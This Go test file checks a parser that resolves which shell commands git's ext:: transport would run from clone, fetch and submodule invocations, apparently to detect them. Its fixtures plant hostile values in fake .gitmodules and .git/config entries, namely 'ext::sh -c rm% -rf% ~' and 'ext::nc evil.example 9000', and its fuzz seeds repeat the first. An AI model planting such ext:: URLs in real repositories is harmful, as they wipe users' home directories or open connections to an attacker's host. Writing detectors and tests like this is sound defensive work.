package buildfile

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestExtCommand(t *testing.T) {
	tests := []struct {
		addr string
		argv []string
		ok   bool
	}{
		{"sh -c touch% /tmp/x", []string{"sh", "-c", "touch /tmp/x"}, true},
		{"ssh -p 2222 git.example.com %S repo.git", []string{"ssh", "-p", "2222", "git.example.com", "git-upload-pack", "repo.git"}, true},
		{"nc host 9418 %G/repo.git %Vhost", []string{"nc", "host", "9418"}, true},
		{"printf 100%%", []string{"printf", "100%"}, true},
		{"  a   b  ", []string{"a", "b"}, true},
		{"git-%s x", []string{"git-upload-pack", "x"}, true},
		{"", nil, false},
		{"   ", nil, false},
		{"cmd %", nil, false},
		{"cmd %q", nil, false},
		{"cmd a%G", nil, false},
		{"%G/x", nil, false},
	}
	for _, tc := range tests {
		argv, ok := ExtCommand(tc.addr)
		if ok != tc.ok || !cmp.Equal(argv, tc.argv) {
			t.Errorf("ExtCommand(%q) = %q, %v; want %q, %v", tc.addr, argv, ok, tc.argv, tc.ok)
		}
	}
}

func TestGitExt(t *testing.T) {
	const modules = "[submodule \"v\"]\n\tpath = v\n\turl = ext::sh -c rm% -rf% ~\n[submodule \"ok\"]\n\tpath = ok\n\turl = https://example.com/ok.git\n"
	repo := fakeFiles{"/w/.git/config": "[remote \"origin\"]\n\turl = ext::nc evil.example 9000\n", "/w/.gitmodules": modules}
	ext := func(file string, line int, text string) Step {
		return Step{File: file, Line: line, Text: text, Lang: Shell, Dir: w}
	}
	tests := []struct {
		name  string
		cmd   string
		files fakeFiles
		steps []Step
	}{
		{"the address given", "git -c protocol.ext.allow=always clone ext::sh|-c|id%_>%_/tmp/x dir", fakeFiles{},
			[]Step{ext("ext::sh -c id% >% /tmp/x", 0, "sh -c 'id > /tmp/x'")}},
		{"submodules' addresses", "git -c protocol.ext.allow=always submodule update --init", repo,
			[]Step{ext("/w/.gitmodules", 3, "sh -c 'rm -rf ~'")}},
		{"submodules read without a repository", "git -c protocol.ext.allow=user submodule update",
			fakeFiles{"/w/.gitmodules": modules}, []Step{ext("/w/.gitmodules", 3, "sh -c 'rm -rf ~'")}},
		{"the remotes' addresses", "git -c protocol.ext.allow=always fetch origin", repo,
			[]Step{ext("/w/.git/config", 2, "nc evil.example 9000")}},
		{"a fetch into submodules reads both", "git -c protocol.allow=always fetch --recurse-submodules", repo,
			[]Step{ext("/w/.gitmodules", 3, "sh -c 'rm -rf ~'"), ext("/w/.git/config", 2, "nc evil.example 9000")}},
		{"protocol.ext.allow=never wins over protocol.allow", "git -c protocol.allow=always -c protocol.ext.allow=never submodule update", repo, nil},
		{"the last setting wins", "git -c protocol.ext.allow=always -c protocol.ext.allow=never fetch", repo, nil},
		{"not allowed: git refuses the transport", "git submodule update --init", repo, nil},
		{"a status reaches no address", "git -c protocol.ext.allow=always status", repo, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			inv := invocationOf(tc.cmd)
			got := Resolve(inv, execFiles{tc.files, nil})
			if diff := cmp.Diff(tc.steps, got.Steps); diff != "" {
				t.Errorf("steps (-want +got):\n%s", diff)
			}
		})
	}
}

// invocationOf splits cmd at spaces into an Invocation run in w; in a
// word, "|" stands for a space and "_" for one after a "%".
func invocationOf(cmd string) Invocation {
	f := strings.Fields(cmd)
	for i := range f {
		f[i] = strings.NewReplacer("|", " ", "%_", "% ").Replace(f[i])
	}
	return Invocation{Name: f[0], Args: f[1:], Dir: w, Home: "/home/u"}
}

func FuzzExtCommand(f *testing.F) {
	for _, s := range []string{"sh -c rm% -rf% ~", "ssh h %S r", "nc h 1 %G/r %Vh", "a%%b", "%", "x %q"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, addr string) {
		argv, ok := ExtCommand(addr)
		if ok != (len(argv) > 0) {
			t.Fatalf("ExtCommand(%q) = %q, %v", addr, argv, ok)
		}
		for _, a := range argv {
			if a == "" && !ok {
				t.Fatalf("empty word in %q", argv)
			}
		}
	})
}
